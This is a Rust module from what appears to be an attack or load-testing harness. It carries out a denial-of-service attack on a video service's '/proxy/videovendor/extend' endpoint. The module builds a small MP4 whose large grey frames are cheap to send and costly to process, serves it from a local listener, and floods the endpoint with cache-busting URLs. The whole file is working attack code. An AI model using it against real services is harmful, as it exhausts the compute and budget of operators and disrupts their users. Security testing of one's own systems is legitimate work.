//! Videos with small files and large frames.

use std::rc::Rc;
use std::time::{Duration, Instant};

use mediary_engine::video::{Codec, EncodedVideo, EncodingQuality, H264, Size, Yuv, write_mp4};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use super::connections::post;
use super::{AttackTarget, SOURCE, flood};
use crate::http::request;

const CONNECTIONS: usize = 4;
/// Deadline for the short video that the hostile caller needs.
const OWN_VIDEO_DEADLINE: Duration = Duration::from_mins(5);
const SIZE: Size = Size { width: 1920, height: 1088 };
/// Frames of a group, which begins with a key frame. All groups are the same, to make encoding fast.
const GROUP: usize = 24;
/// Number of groups: five minutes, the longest accepted video.
const GROUPS: usize = 300;

/// Repeatedly submits a video to be extended. The service fetches it from this process, as from any other server.
pub async fn extend(target: &Rc<AttackTarget>) {
    let Some(video_id) = create_own_video(target).await else { return };
    let url = serve(grey_video()).await;
    let token = target.account.token.clone();
    flood(target, CONNECTIONS, move |iteration| {
        let body = json!({
            "model": "vq2-turbo",
            "video_creation_id": video_id,
            // A new name each time, so that no cache has the file.
            "video_url": format!("{url}/{iteration}.mp4"),
            "duration": 1,
            "resolution": "540p",
        });
        request("POST", "/proxy/videovendor/extend", &token, &body.to_string()).into()
    });
}

/// Creates a short video, because only callers with a video may extend one, and returns its id. `None` if it was
/// rejected.
async fn create_own_video(target: &AttackTarget) -> Option<String> {
    let body = json!({"prompt": "hills", "model": "vq2-turbo", "duration": 1, "resolution": "540p"});
    let task = post(target, "/proxy/videovendor/start-end2video", &body).await?;
    let path = format!("/proxy/videovendor/tasks/{}/creations", task["task_id"].as_str()?);
    let started = Instant::now();
    while started.elapsed() < OWN_VIDEO_DEADLINE {
        let mut connection = target.connect().await?;
        let response = connection.try_exchange(&request("GET", &path, &target.account.token, "")).await.ok()?;
        let creations: Value = serde_json::from_slice(response.body).ok()?;
        if let Some(id) = creations["creations"][0]["id"].as_str() {
            return Some(id.to_owned());
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    target.count("no video of its own");
    None
}

/// Returns an MP4 file of grey frames.
fn grey_video() -> Vec<u8> {
    let pixels = SIZE.width * SIZE.height;
    let grey = Yuv { size: SIZE, luma: vec![128; pixels], blue: vec![128; pixels / 4], red: vec![128; pixels / 4] };
    let mut encoder = H264.encoder(SIZE, EncodingQuality::Compact).expect("a size that is encoded");
    let group: Vec<Vec<u8>> = (0..GROUP).map(|_| encoder.encode(&grey).expect("a frame")).collect();
    write_mp4(&EncodedVideo { groups: vec![group; GROUPS] }, None).expect("a video")
}

/// Serves a file under every path and returns the base URL.
async fn serve(file: Vec<u8>) -> String {
    let listener = TcpListener::bind((SOURCE, 0)).await.expect("a free port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    let head = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: video/mp4\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        file.len()
    );
    let file_response: Rc<[u8]> = [head.as_bytes(), &file].concat().into();
    tokio::task::spawn_local(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let file_response = file_response.clone();
            tokio::task::spawn_local(async move {
                let mut head = [0; 4096];
                let _ = stream.read(&mut head).await;
                let _ = stream.write_all(&file_response).await;
            });
        }
    });
    url
}
